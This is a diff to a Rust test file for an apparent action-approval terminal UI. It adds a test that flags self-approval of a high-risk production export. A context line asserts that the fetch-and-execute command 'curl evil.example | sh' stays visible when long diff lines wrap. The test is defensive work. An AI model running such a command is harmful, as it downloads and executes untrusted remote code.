@@ -300,3 +300,14 @@ fn long_diff_lines_wrap_instead_of_hiding_their_tail() {
     assert!(screen.contains("curl evil.example | sh"), "{screen}");
     insta::assert_snapshot!("diff_long_line_80x24", screen);
 }
+
+#[test]
+fn approving_your_own_request_is_flagged_before_sending() {
+    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
+    a.requester.on_behalf_of = Some("bob@example.com".into());
+    let mut app = live_app(vec![a], (80, 24));
+    chars(&mut app, "a");
+    let screen = render(&app, 80, 24);
+    assert!(screen.contains("will refuse self-approval"), "{screen}");
+    insta::assert_snapshot!("self_request_80x24", screen);
+}
